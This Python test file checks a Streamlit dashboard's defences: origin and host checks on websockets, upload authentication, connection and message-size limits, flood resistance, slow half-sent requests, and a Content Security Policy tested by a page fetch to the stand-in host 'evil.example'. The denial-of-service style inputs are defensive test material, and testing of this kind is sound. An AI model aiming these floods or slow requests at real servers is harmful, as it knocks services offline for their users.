"""The dashboard's own process from outside: names, origins, slow clients, and its pages under the policy."""

from __future__ import annotations

import contextlib
import json
import socket
import urllib.error
import urllib.request
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect
from streamlit.proto.BackMsg_pb2 import BackMsg
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import connect
from websockets.typing import Subprotocol

from lib.services.staff.open_tabs import MOST_OF_ONE
from lib.web.tab_limits import LARGEST_OF_STRANGERS
from tests.server.conftest import Server
from tests.server.people import PATIENCE_MS, sign_in

pytestmark = pytest.mark.server

PROTOCOL = [Subprotocol("streamlit")]


def handshake(server: Server, host: str, origin: str | None) -> int:
    """The status of the answer to a websocket's first request; 101 when it is open."""
    port = urlsplit(server.url).port or 0
    connection = socket.create_connection(("127.0.0.1", port), timeout=30)
    try:
        with connect(
            f"ws://{host}/_stcore/stream",
            sock=connection,
            origin=origin,
            subprotocols=["streamlit"],
        ):
            return 101
    except InvalidStatus as refused:
        return refused.response.status_code


def test_foreign_names_and_origins_get_no_websocket(one_server: Server) -> None:
    own = urlsplit(one_server.url).netloc
    assert handshake(one_server, own, f"http://{own}") == 101
    assert handshake(one_server, own, "https://evil.example") == 403
    assert handshake(one_server, "evil.example", "http://evil.example") == 403
    assert handshake(one_server, "evil.example", None) == 403


def test_what_strangers_send_over_a_websocket_is_lines_of_json(one_server: Server) -> None:
    """One a fault, whichever library says it; a trace has no lines of its own."""
    own = urlsplit(one_server.url).netloc
    before = len(one_server.log.read_text().splitlines())
    for data in (b"\xff\xfe no message", b"\x0a\xff", "text instead of bytes"):
        for _ in range(3):
            with connect(f"ws://{own}/_stcore/stream", origin=f"http://{own}") as stranger:
                stranger.send(data)
                with contextlib.suppress(ConnectionClosed):
                    for _message in stranger:
                        break
    lines = one_server.log.read_text().splitlines()[before:]
    assert lines
    assert {json.loads(line)["level"] for line in lines} <= {"warning", "error"}
    assert len(lines) <= 4


def test_strangers_upload_nothing(one_server: Server) -> None:
    """Although the sign-in page has a session of Streamlit's, which takes files for it."""
    request = urllib.request.Request(
        f"{one_server.url}/_stcore/upload_file/session/file", data=b"rows", method="PUT"
    )
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=30)
    assert (refused.value.code, refused.value.read()) == (401, b"Sign in to upload a file.")


def message(query: str = "") -> bytes:
    asked = BackMsg()
    asked.rerun_script.query_string = query
    return asked.SerializeToString()


def test_an_address_opens_so_many_tabs(one_server: Server) -> None:
    """Each takes four of the process's files: some two hundred of a stranger's stopped everybody."""
    own = urlsplit(one_server.url).netloc
    with contextlib.ExitStack() as stack:
        for _ in range(MOST_OF_ONE):
            stack.enter_context(connect(f"ws://{own}/_stcore/stream", subprotocols=PROTOCOL))
        assert handshake(one_server, own, None) == 403
        assert urllib.request.urlopen(f"{one_server.url}/healthz", timeout=30).status == 200


def test_a_stranger_sends_little(one_server: Server) -> None:
    """What was sent stayed in memory for minutes after the socket was closed."""
    own = urlsplit(one_server.url).netloc
    with connect(f"ws://{own}/_stcore/stream", subprotocols=PROTOCOL) as stranger:
        with contextlib.suppress(ConnectionClosed):
            stranger.send(message("q=" + "a" * LARGEST_OF_STRANGERS))
            while True:
                stranger.recv(timeout=30)
        assert stranger.close_code == 1009


def test_a_stranger_keeps_nobody_waiting(one_server: Server) -> None:
    """Each message runs the page: ten sockets with messages of five bytes stopped everybody."""
    own = urlsplit(one_server.url).netloc
    with contextlib.ExitStack() as stack:
        hurried = [
            stack.enter_context(connect(f"ws://{own}/_stcore/stream", subprotocols=PROTOCOL))
            for _ in range(10)
        ]
        for _ in range(200):
            for one in hurried:
                one.send(message())
        assert urllib.request.urlopen(f"{one_server.url}/healthz", timeout=5).status == 200


@pytest.mark.parametrize("path", ["/_stcore/metrics", "/_stcore/agent/openapi.json"])
def test_streamlits_figures_are_not_for_strangers(one_server: Server, path: str) -> None:
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(one_server.url + path, timeout=30)
    assert refused.value.code == 404


def test_sixty_half_sent_requests_are_closed(one_server: Server) -> None:
    """An upgrade of uvicorn or Streamlit that undoes the deadline shows here: ten seconds, as they are."""
    port = urlsplit(one_server.url).port or 0
    connections = [socket.create_connection(("127.0.0.1", port)) for _ in range(60)]
    for connection in connections:
        connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
    for connection in connections:
        connection.settimeout(30)
        assert connection.recv(1) == b""
        connection.close()


@pytest.mark.browser
def test_pages_work_under_the_policy_and_nothing_else_does(
    one_server: Server, browser: Browser
) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    said: list[str] = []
    context.on("console", lambda message: said.append(message.text))
    page = sign_in(context, one_server.url, "ada")
    chart = page.get_by_test_id("stVegaLiteChart").first
    expect(chart.locator("canvas, svg").first).to_be_visible(timeout=PATIENCE_MS)
    page.get_by_role("link", name="Charges").click()
    expect(page.get_by_test_id("stDataFrame").first).to_be_visible(timeout=PATIENCE_MS)
    assert not [text for text in said if "Content Security Policy" in text]
    failed = "() => fetch('https://evil.example/').then(() => 'sent', error => error.name)"
    assert page.evaluate(failed) == "TypeError"
    assert [text for text in said if "Content Security Policy" in text]
    context.close()


@pytest.mark.browser
def test_whoever_signed_in_in_this_tab_sends_more(one_server: Server, browser: Browser) -> None:
    context = browser.new_context()
    page = sign_in(context, one_server.url, "alice")
    page.get_by_role("link", name="New run").first.click()
    page.get_by_text("Paste rows").click()
    # Long cells: a browser takes a second for every thousand lines.
    rows = [f"cus_{number}\t1.00\teur\tINV-{number}\t{'a' * 200}" for number in range(350)]
    text = "\n".join(["customer\tamount\tcurrency\treference\tdescription", *rows])
    assert len(text) > LARGEST_OF_STRANGERS
    page.get_by_label("Rows with their heading").fill(text)
    page.get_by_role("button", name="Read the rows").click()
    expect(page.get_by_text("350").first).to_be_visible(timeout=PATIENCE_MS)
    context.close()
